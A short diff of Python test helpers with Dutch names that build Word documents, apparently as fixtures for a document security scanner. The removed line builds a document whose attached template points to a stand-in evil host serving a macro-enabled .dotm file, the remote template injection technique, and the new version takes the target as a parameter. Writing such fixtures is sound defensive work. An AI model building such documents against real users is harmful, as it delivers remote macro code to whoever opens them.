@@ -98,8 +98,8 @@ def docx_met(naam: str, inhoud: bytes) -> bytes:
     return docx(meer={naam: inhoud})
 
 
-def docx_met_sjabloon_elders() -> bytes:
-    return docx_met("word/_rels/settings.xml.rels", _koppeling("attachedTemplate", "https://kwaad.example/x.dotm"))
+def docx_met_sjabloon(doel: str) -> bytes:
+    return docx_met("word/_rels/settings.xml.rels", _koppeling("attachedTemplate", doel))
 
 
 def docx_met_link() -> bytes:
